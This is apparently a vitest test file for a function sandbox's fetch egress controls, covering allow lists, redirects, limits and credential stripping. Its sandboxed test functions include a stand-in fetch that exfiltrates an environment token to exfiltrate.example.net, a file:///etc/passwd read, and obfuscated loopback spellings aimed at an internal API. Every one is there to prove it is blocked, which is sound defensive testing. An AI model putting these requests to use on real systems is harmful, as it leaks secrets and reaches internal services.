// ctx.fetch and egress, against real HTTP servers on loopback: one the function may reach, one it
// may not (standing in for Eddy's own API on 127.0.0.1), reached directly, through other spellings
// of the address, and through redirects.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { disposeSandboxes, expectFailure, expectServesNext, firstJson, hostile, sandboxFor, statuses } from "./sandbox-helpers.js";

interface TestServer {
  server: Server;
  port: number;
  requests: { method: string; url: string; headers: IncomingMessage["headers"] }[];
  /** Requests whose connection closed before an answer (the client gave up). */
  abandoned: number;
  /** /slow requests that arrived, and the /after-slow answers waiting for one. */
  slowArrivals: number;
  slowWaiters: (() => void)[];
}

async function listen(handler: (req: IncomingMessage, res: ServerResponse, body: string, self: TestServer) => void): Promise<TestServer> {
  const self: TestServer = { server: createServer(), port: 0, requests: [], abandoned: 0, slowArrivals: 0, slowWaiters: [] };
  self.server.on("request", (req, res) => {
    let body = "";
    req.on("data", (chunk: Buffer) => (body += chunk.toString()));
    req.on("end", () => {
      self.requests.push({ method: req.method!, url: req.url!, headers: req.headers });
      res.on("close", () => {
        if (!res.writableEnded) self.abandoned += 1;
      });
      handler(req, res, body, self);
    });
  });
  await new Promise<void>((resolve) => self.server.listen(0, "127.0.0.1", resolve));
  self.port = (self.server.address() as AddressInfo).port;
  return self;
}

let allowed: TestServer;
let other: TestServer;
let api: TestServer;

beforeAll(async () => {
  api = await listen((_req, res) => res.end(JSON.stringify({ functions: ["secret"] })));
  other = await listen((req, res, body) => res.end(JSON.stringify({ method: req.method, authorization: req.headers.authorization ?? null, body })));
  allowed = await listen((req, res, body, self) => {
    const url = new URL(req.url!, "http://x");
    switch (url.pathname) {
      case "/json":
        res.setHeader("content-type", "application/json");
        res.setHeader("set-cookie", ["a=1", "b=2"]);
        res.end(JSON.stringify({ hello: "wörld" }));
        return;
      case "/echo":
        res.end(JSON.stringify({ method: req.method, type: req.headers["content-type"] ?? null, auth: req.headers.authorization ?? null, body }));
        return;
      case "/to-api":
        res.writeHead(302, { location: `http://127.0.0.1:${api.port}/v1/functions` }).end();
        return;
      case "/to-json":
        res.writeHead(301, { location: "/json" }).end();
        return;
      case "/see-other":
        res.writeHead(303, { location: "/echo" }).end();
        return;
      case "/to-other":
        res.writeHead(307, { location: `http://127.0.0.1:${other.port}/` }).end();
        return;
      case "/loop":
        res.writeHead(302, { location: "/loop" }).end();
        return;
      case "/big":
        res.end("x".repeat(5_000));
        return;
      case "/big-stream":
        res.write("x".repeat(600));
        setTimeout(() => res.end("y".repeat(600)), 20);
        return;
      case "/slow":
        self.slowArrivals += 1;
        for (const waiting of self.slowWaiters.splice(0)) waiting();
        return; // never answers
      case "/after-slow": {
        // Answers once the n-th /slow request has arrived, so that a function can know its request is out.
        const wanted = Number(url.searchParams.get("n"));
        const answerOrWait = () => {
          if (self.slowArrivals >= wanted) res.end("arrived");
          else self.slowWaiters.push(answerOrWait);
        };
        answerOrWait();
        return;
      }
      default:
        res.writeHead(404).end("not found");
    }
  });
});

afterEach(() => disposeSandboxes());
afterAll(async () => {
  for (const s of [allowed, other, api]) {
    s.server.closeAllConnections();
    await new Promise((resolve) => s.server.close(resolve));
  }
});

const fetchThenReport = (url: string, init = "undefined") => `
  const res = await ctx.fetch(${url}, ${init});
  await ctx.emit("report", { status: res.status, body: await res.text(), url: res.url, redirected: res.redirected });`;

describe("egress refuses", () => {
  it("a host that is not in egress, before any network traffic", async () => {
    const subject = await sandboxFor(hostile(`await ctx.fetch("https://exfiltrate.example.net/?data=" + ctx.env.TOKEN);`), {
      egress: ["api.example.com"],
      env: { TOKEN: "t0ken" },
    });
    const error = expectFailure(
      await subject.invoke(["fetch"]),
      "EDDY_SANDBOX_EGRESS_DENIED",
      /^TypeError: ctx\.fetch https:\/\/exfiltrate\.example\.net\/\?data=t0ken: exfiltrate\.example\.net:443 is not in this function's egress \(egress allows api\.example\.com\); add "exfiltrate\.example\.net" or "exfiltrate\.example\.net:443" to egress to allow it/,
    );
    expect(error.retriable).toBe(false);
    await expectServesNext(subject);
  });

  it.each(["127.0.0.1", "localhost", "2130706433", "0x7f.0.0.1", "127.1", "[::ffff:127.0.0.1]", "[::1]"])(
    "Eddy's own API on loopback, spelled %s, when egress does not list it",
    async (host) => {
      const subject = await sandboxFor(hostile(fetchThenReport(`"http://${host}:" + ctx.env.PORT + "/v1/functions"`)), {
        egress: ["api.example.com", `127.0.0.1:${allowed.port}`],
        env: { PORT: String(api.port) },
      });
      expectFailure(await subject.invoke(["fetch"]), "EDDY_SANDBOX_EGRESS_DENIED", /is not in this function's egress/);
      expect(api.requests).toEqual([]);
      await expectServesNext(subject);
    },
  );

  it("a redirect from an allowed host to a forbidden one, checked before the second request", async () => {
    const subject = await sandboxFor(hostile(fetchThenReport(`"http://127.0.0.1:${allowed.port}/to-api"`)), { egress: [`127.0.0.1:${allowed.port}`] });
    expectFailure(
      await subject.invoke(["fetch"]),
      "EDDY_SANDBOX_EGRESS_DENIED",
      new RegExp(`ctx\\.fetch: a redirect led to http://127\\.0\\.0\\.1:${api.port}/v1/functions: 127\\.0\\.0\\.1:${api.port} is not in this function's egress`),
    );
    expect(allowed.requests.at(-1)?.url).toBe("/to-api");
    expect(api.requests).toEqual([]);
    await expectServesNext(subject);
  });

  it.each([
    ["file:///etc/passwd", /only http: and https: URLs can be fetched, got file:/],
    ["data:text/plain,hi", /only http: and https: URLs can be fetched, got data:/],
    ["ftp://127.0.0.1/", /only http: and https: URLs can be fetched, got ftp:/],
  ])("the non-HTTP URL %s", async (url, message) => {
    const subject = await sandboxFor(hostile(`await ctx.fetch(${JSON.stringify(url)});`), { egress: ["127.0.0.1"] });
    expectFailure(await subject.invoke(["fetch"]), "EDDY_SANDBOX_EGRESS_DENIED", message);
  });

  it("a Host header that would point an allowed connection at another virtual host", async () => {
    const subject = await sandboxFor(hostile(`await ctx.fetch("http://127.0.0.1:${allowed.port}/echo", { headers: { Host: "internal.admin" } });`), {
      egress: [`127.0.0.1:${allowed.port}`],
    });
    const before = allowed.requests.length;
    expectFailure(await subject.invoke(["fetch"]), "EDDY_SANDBOX_EGRESS_DENIED", /the host header cannot be set by a function/);
    expect(allowed.requests.length).toBe(before);
  });

  it("with an empty egress, everything", async () => {
    const subject = await sandboxFor(hostile(`await ctx.fetch("http://127.0.0.1:${allowed.port}/json");`));
    expectFailure(await subject.invoke(["fetch"]), "EDDY_SANDBOX_EGRESS_DENIED", /\(egress is empty\)/);
  });
});

describe("allowed fetches", () => {
  const egress = () => [`127.0.0.1:${allowed.port}`];

  it("answer with a Response-like object: status, headers, url, json(), text(), bytes read once", async () => {
    const subject = await sandboxFor(
      hostile(`
        const res = await ctx.fetch(new URL("/json", "http://127.0.0.1:" + ctx.env.PORT));
        const data = await res.json();
        let second = "readable twice";
        try { await res.text(); } catch (e) { second = e.message; }
        const missing = await ctx.fetch("http://127.0.0.1:" + ctx.env.PORT + "/nope");
        await ctx.emit("report", {
          status: res.status, ok: res.ok, type: res.headers.get("Content-Type"), cookies: res.headers.getSetCookie(),
          data, second, bodyUsed: res.bodyUsed, url: res.url, redirected: res.redirected,
          missing: { status: missing.status, ok: missing.ok, bytes: Array.from(new Uint8Array(await missing.arrayBuffer())).length },
        });`),
      { egress: egress(), env: { PORT: String(allowed.port) } },
    );
    expect(firstJson(await subject.invoke(["fetch"]))).toEqual({
      status: 200,
      ok: true,
      type: "application/json",
      cookies: ["a=1", "b=2"],
      data: { hello: "wörld" },
      second: "response.text(): the body was already read (a body can be read once; use clone() first)",
      bodyUsed: true,
      url: `http://127.0.0.1:${allowed.port}/json`,
      redirected: false,
      missing: { status: 404, ok: false, bytes: 9 },
    });
  });

  it("send methods, headers and bodies, and follow redirects within egress (303 turns into GET)", async () => {
    const base = `http://127.0.0.1:${allowed.port}`;
    const subject = await sandboxFor(
      hostile(`
        const post = await (await ctx.fetch("${base}/echo", { method: "post", headers: [["Authorization", "Bearer x"]], body: JSON.stringify({ a: 1 }) })).json();
        const form = await (await ctx.fetch("${base}/echo", { method: "PUT", body: new URLSearchParams({ q: "a b&c" }) })).json();
        const moved = await ctx.fetch("${base}/to-json");
        const seeOther = await (await ctx.fetch("${base}/see-other", { method: "POST", body: "dropped" })).json();
        const manual = await ctx.fetch("${base}/to-api", { redirect: "manual" });
        await ctx.emit("report", { post, form, moved: [moved.status, moved.url, moved.redirected], seeOther, manual: [manual.status, manual.headers.get("location")] });`),
      { egress: egress() },
    );
    expect(firstJson(await subject.invoke(["fetch"]))).toEqual({
      post: { method: "POST", type: "text/plain;charset=UTF-8", auth: "Bearer x", body: '{"a":1}' },
      form: { method: "PUT", type: "application/x-www-form-urlencoded;charset=UTF-8", auth: null, body: "q=a+b%26c" },
      moved: [200, `${base}/json`, true],
      seeOther: { method: "GET", type: null, auth: null, body: "" },
      manual: [302, `http://127.0.0.1:${api.port}/v1/functions`],
    });
    expect(api.requests).toEqual([]);
  });

  it("drop credentials when a redirect changes origin", async () => {
    const subject = await sandboxFor(
      hostile(`const res = await ctx.fetch("http://127.0.0.1:${allowed.port}/to-other", { headers: { authorization: "Bearer secret" } }); await ctx.emit("report", await res.json());`),
      { egress: [`127.0.0.1:${allowed.port}`, `127.0.0.1:${other.port}`] },
    );
    expect(firstJson(await subject.invoke(["fetch"]))).toEqual({ method: "GET", authorization: null, body: "" });
  });
});

describe("fetch limits", () => {
  const egress = () => [`127.0.0.1:${allowed.port}`];

  it.each(["/big", "/big-stream"])("a response body over maxFetchBodyBytes (%s) fails with EDDY_SANDBOX_FETCH_TOO_LARGE", async (path) => {
    const subject = await sandboxFor(hostile(fetchThenReport(`"http://127.0.0.1:${allowed.port}${path}"`)), { egress: egress(), limits: { maxFetchBodyBytes: 1_000 } });
    expectFailure(await subject.invoke(["fetch"]), "EDDY_SANDBOX_FETCH_TOO_LARGE", /the response body is (5000|more than 1000) bytes; the limit is 1000 \(maxFetchBodyBytes\)/);
    await expectServesNext(subject);
  });

  it("a server that never answers fails with EDDY_SANDBOX_FETCH_TIMEOUT after fetchTimeoutMs, retriable", async () => {
    const subject = await sandboxFor(hostile(fetchThenReport(`"http://127.0.0.1:${allowed.port}/slow"`)), { egress: egress(), limits: { fetchTimeoutMs: 200 } });
    // The fetch's own timeout, not the invocation's (5 s), ends it.
    const error = expectFailure(await subject.invoke(["fetch"], { timeoutMs: 5_000 }), "EDDY_SANDBOX_FETCH_TIMEOUT", /^TimeoutError: ctx\.fetch .*\/slow: no complete answer within 200 ms/);
    expect(error.retriable).toBe(true);
    await expectServesNext(subject);
  });

  it("a fetch left running when the invocation ends is cancelled, and settles nothing later", async () => {
    // The invocation ends once the server holds the /slow request, so its cancellation must reach the server.
    const base = `http://127.0.0.1:${allowed.port}`;
    const subject = await sandboxFor(
      hostile(`ctx.fetch("${base}/slow").then(() => console.log("settled after the end"), () => console.log("rejected after the end"));
      await (await ctx.fetch("${base}/after-slow?n=${allowed.slowArrivals + 1}")).text();`),
      { egress: egress() },
    );
    const abandonedBefore = allowed.abandoned;
    const result = await subject.invoke(["fetch"]);
    expect(statuses(result), JSON.stringify(result.outcomes)).toEqual(["ok"]);
    await expect.poll(() => allowed.abandoned, { timeout: 2_000 }).toBe(abandonedBefore + 1);
    await expectServesNext(subject);
    expect(subject.logs).toEqual([]);
  });

  it("a redirect loop fails with EDDY_SANDBOX_FETCH_FAILED after maxRedirects", async () => {
    const subject = await sandboxFor(hostile(fetchThenReport(`"http://127.0.0.1:${allowed.port}/loop"`)), { egress: egress(), limits: { maxRedirects: 3 } });
    expectFailure(await subject.invoke(["fetch"]), "EDDY_SANDBOX_FETCH_FAILED", /more than 3 redirects \(maxRedirects\)/);
  });

  it("a refused connection fails with EDDY_SANDBOX_FETCH_FAILED naming the cause, retriable", async () => {
    const closed = await listen(() => {});
    const port = closed.port;
    await new Promise((resolve) => closed.server.close(resolve));
    const subject = await sandboxFor(hostile(fetchThenReport(`"http://127.0.0.1:${port}/"`)), { egress: [`127.0.0.1:${port}`] });
    const error = expectFailure(await subject.invoke(["fetch"]), "EDDY_SANDBOX_FETCH_FAILED", /ECONNREFUSED/);
    expect(error.retriable).toBe(true);
  });

  it("a fetch flood fails at maxFetchesPerInvocation", async () => {
    const subject = await sandboxFor(hostile(`await Promise.all(Array.from({ length: 20 }, () => ctx.fetch("http://127.0.0.1:${allowed.port}/json")));`), {
      egress: egress(),
      limits: { maxFetchesPerInvocation: 5 },
    });
    expectFailure(await subject.invoke(["fetch"]), "EDDY_SANDBOX_LIMIT", /already made 5 fetches; the limit is 5 per invocation \(maxFetchesPerInvocation\)/);
  });
});
